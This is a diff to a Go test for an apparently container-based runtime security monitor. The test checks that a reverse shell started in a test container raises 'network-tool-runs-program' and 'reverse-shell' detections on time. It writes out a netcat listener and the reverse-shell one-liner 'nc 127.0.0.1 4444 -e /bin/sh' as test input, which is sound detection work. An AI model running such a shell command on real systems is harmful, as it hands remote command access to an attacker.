@@ -21,30 +21,38 @@ func TestDetectionsWithoutPolicyOrLearning(t *testing.T) {
 	// The other end: it says one line and hears the answer.
 	listening := make(chan error, 1)
 	go func() {
-		_, err := bad.Exec(m.ctx, minicontainer.ExecSpec{Args: []string{"/bin/nc", "-l", "-p", "4444", "-s", "127.0.0.1"}, Stdin: strings.NewReader("exit\n")})
+		_, err := bad.Exec(m.ctx, minicontainer.ExecSpec{Args: []string{"/bin/nc", "-l", "-p", "4444"}, Stdin: strings.NewReader("exit\n")})
 		listening <- err
 	}()
 	began := time.Now()
 	out, _ := m.sh(bad, `for i in 1 2 3 4 5 6 7 8 9; do nc 127.0.0.1 4444 -e /bin/sh && break; sleep 0.1; done`)
+	ended := time.Now()
 	if err := <-listening; err != nil {
 		t.Fatal(err)
 	}
-	e := m.event("a network tool that runs a shell", func(e event.Event) bool {
-		return e.Kind == event.Detection && e.Rule != nil && e.Rule.Policy == "Detection/network-tool-runs-program"
-	})
-	if late := e.Last.Sub(began); late > 3*time.Second {
-		t.Errorf("it happened %s after the shell was started\n%s", late, out)
+	detection := func(name string) event.Event {
+		return m.event("detection "+name, func(e event.Event) bool {
+			return e.Kind == event.Detection && e.Rule != nil && e.Rule.Policy == "Detection/"+name
+		}, "--kind", "detection", "--workload", "shop/victim")
 	}
-	if e.Severity != event.Critical || e.Workload.Name != "victim" || !strings.Contains(e.Message, "nc 127.0.0.1 4444 -e /bin/sh") {
-		t.Errorf("event %+v", e)
+	// By its command line, and by what it is: a shell whose input is a socket.
+	for name, words := range map[string]string{"network-tool-runs-program": "nc 127.0.0.1 4444 -e /bin/sh", "reverse-shell": "as sh"} {
+		e := detection(name)
+		if e.Severity != event.Critical || e.Workload.Name != "victim" || !strings.Contains(e.Message, words) || e.Count != 1 {
+			t.Errorf("event %+v", e)
+		}
+		if late := e.Last.Sub(began); late > 10*time.Second {
+			t.Errorf("%s happened %s after the shell was started\n%s", name, late, out)
+		}
 	}
-	list, err := m.g.Events(m.ctx, "--limit", "1000")
+	if told := time.Since(ended); told > 10*time.Second {
+		t.Errorf("both were told %s after the shell had ended", told)
+	}
+	list, err := m.g.Events(m.ctx, "--kind", "detection", "--workload", "shop/plain")
 	if err != nil {
 		t.Fatal(err)
 	}
 	for _, e := range list {
-		if e.Kind == event.Detection && e.Workload.Name != "victim" {
-			t.Errorf("found in an ordinary container: %s", e.Message)
-		}
+		t.Errorf("found in an ordinary container: %s", e.Message)
 	}
 }
